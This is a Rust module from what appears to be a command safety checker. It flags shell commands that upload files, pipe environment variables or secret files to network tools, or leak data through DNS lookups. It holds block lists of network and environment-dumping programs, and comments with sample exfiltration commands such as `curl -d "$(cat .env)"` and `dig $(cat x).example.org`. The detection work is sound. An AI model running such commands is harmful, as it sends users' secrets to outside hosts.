//! Rules about data exfiltration.

use super::report::FindingReport;
use super::transfer::{is_remote, sends_stdin};
use super::{PathEffect, Verb, effects as effects_of};
use crate::command::{Invocation, Script, Stdin, UNKNOWN, Word};
use crate::paths::{FollowLinks, PathArea, PathContext, SecretFile, TargetMachine};
use crate::redact;
use crate::rules;

/// Checks the data that a command sends to another machine.
pub(super) fn check(
    command: &Invocation,
    script: &Script,
    effects: &[PathEffect],
    context: &PathContext<'_>,
    report: &mut FindingReport<'_>,
) {
    dns(command, report);
    if context.machine() != TargetMachine::Local || targets_loopback_only(command) {
        return;
    }
    let uploads = effects.iter().filter(|effect| effect.verb == Verb::Upload);
    if uploads
        .into_iter()
        .any(|effect| needs_confirmation(effect, context))
    {
        report.add_command(&rules::NETWORK_UPLOAD);
    }
    if sends_stdin(command) {
        piped(command, script, context, report);
    }
    if is_sender(&command.program) && sends_captured_secrets(command, script, context) {
        report.add_command(&rules::SECRETS_UPLOAD);
    }
}

/// Whether sending the file needs confirmation. Temporary files and build output need none, because they are
/// usually created to be sent.
fn needs_confirmation(effect: &PathEffect, context: &PathContext<'_>) -> bool {
    let candidates = context.classify_word(&effect.target, FollowLinks::Always);
    candidates.iter().any(|classified| {
        !matches!(
            classified.area,
            PathArea::Temp | PathArea::Build | PathArea::Stream
        )
    })
}

fn piped(
    command: &Invocation,
    script: &Script,
    context: &PathContext<'_>,
    report: &mut FindingReport<'_>,
) {
    if let Stdin::Text(text) = &command.stdin
        && redact::find(text)
            .iter()
            .any(|found| found.kind.is_unmistakable())
    {
        report.add_command(&rules::SECRETS_UPLOAD);
    }
    for source in script.origins(&command.sources) {
        if is_environment(source) {
            report.add_command(&rules::SECRETS_UPLOAD);
        }
        let is_project = source.program == "git"
            && source
                .words()
                .any(|word| matches!(word, "archive" | "bundle" | "diff" | "log" | "show"));
        for effect in effects_of(source, context) {
            if !matches!(effect.verb, Verb::Read | Verb::Feed | Verb::CopyFrom) {
                continue;
            }
            for classified in context.classify_word(&effect.target, FollowLinks::Always) {
                if classified.secret.is_some_and(SecretFile::is_confidential)
                    || matches!(classified.area, PathArea::Home | PathArea::Root)
                {
                    report.add_command(&rules::SECRETS_UPLOAD);
                } else if !matches!(
                    classified.area,
                    PathArea::Temp | PathArea::Build | PathArea::Stream
                ) {
                    report.add_command(&rules::NETWORK_UPLOAD);
                }
            }
        }
        if is_project {
            report.add_command(&rules::NETWORK_UPLOAD);
        }
    }
}

fn is_environment(command: &Invocation) -> bool {
    match command.program.as_str() {
        "env" | "printenv" | "history" => true,
        "set" => command.args.is_empty(),
        "export" | "declare" => command
            .words()
            .all(|word| matches!(word, "-p" | "-x" | "-xp" | "-px")),
        _ => false,
    }
}

fn is_sender(program: &str) -> bool {
    matches!(
        program,
        "curl"
            | "wget"
            | "http"
            | "https"
            | "xh"
            | "xhs"
            | "nc"
            | "ncat"
            | "netcat"
            | "socat"
            | "telnet"
            | "ssh"
            | "dig"
            | "host"
            | "nslookup"
            | "drill"
            | "ping"
    )
}

/// `curl -d "$(env)" …`, `curl -d "$(cat .env)" …`: a secret becomes part of an argument.
fn sends_captured_secrets(
    command: &Invocation,
    script: &Script,
    context: &PathContext<'_>,
) -> bool {
    let words = command.args.iter().filter(|word| !word.from.is_empty());
    words
        .flat_map(|word| script.origins(&word.from))
        .any(|source| is_environment(source) || outputs_secrets(source, context))
}

fn outputs_secrets(source: &Invocation, context: &PathContext<'_>) -> bool {
    let shown = effects_of(source, context)
        .into_iter()
        // `$(<file)` prints a file without any program.
        .filter(|effect| {
            effect.verb == Verb::Read || effect.verb == Verb::Feed && source.program.is_empty()
        });
    shown
        .flat_map(|effect| context.classify_word(&effect.target, FollowLinks::Always))
        .any(|classified| {
            classified
                .secret
                .is_some_and(|secret| secret.sure && secret.is_confidential())
                && !classified.is_possible
        })
}

/// Whether every address in the command is a loopback address.
fn targets_loopback_only(command: &Invocation) -> bool {
    let mut hosts = command
        .words()
        .filter(|word| !word.starts_with('-'))
        .filter_map(host_of);
    let Some(first) = hosts.next() else {
        return false;
    };
    is_loopback(first) && hosts.all(is_loopback)
}

/// The host in a word that certainly contains one: a URL, or `host:path`.
fn host_of(word: &str) -> Option<&str> {
    let rest = match word.split_once("://") {
        Some((_, rest)) => rest,
        None if is_loopback(word) => return Some(word),
        None if is_remote(word) || word.contains(':') => word,
        None => return None,
    };
    let host = rest.split(['/', '?', '#']).next()?;
    let host = host.rsplit('@').next()?;
    if let Some(inner) = host.strip_prefix('[') {
        return inner.split(']').next();
    }
    host.split(':').next()
}

fn is_loopback(host: &str) -> bool {
    let name = host.split(':').next().unwrap_or(host);
    matches!(name, "localhost" | "0.0.0.0" | "host.docker.internal")
        || name.starts_with("127.")
        || name.ends_with(".localhost")
        || host == "::1"
}

/// DNS exfiltration: a lookup reveals the name to its name server, as in `dig $(cat x).example.org`.
fn dns(command: &Invocation, report: &mut FindingReport<'_>) {
    if !matches!(
        command.program.as_str(),
        "dig" | "nslookup" | "host" | "drill" | "ping" | "resolvectl" | "getent"
    ) {
        return;
    }
    let sends = |word: &Word| {
        let text = word.text.as_str();
        let before_dot = text
            .find('.')
            .is_some_and(|dot| text[..dot].contains(UNKNOWN));
        let after = text
            .trim_end_matches('.')
            .rsplit(UNKNOWN)
            .next()
            .unwrap_or("");
        // A name that contains command output carries data; a variable is most likely a host name.
        (before_dot && after.contains('.')) && !word.from.is_empty()
    };
    if command.args.iter().any(sends) {
        report.add_command(&rules::NETWORK_DNS);
    }
}
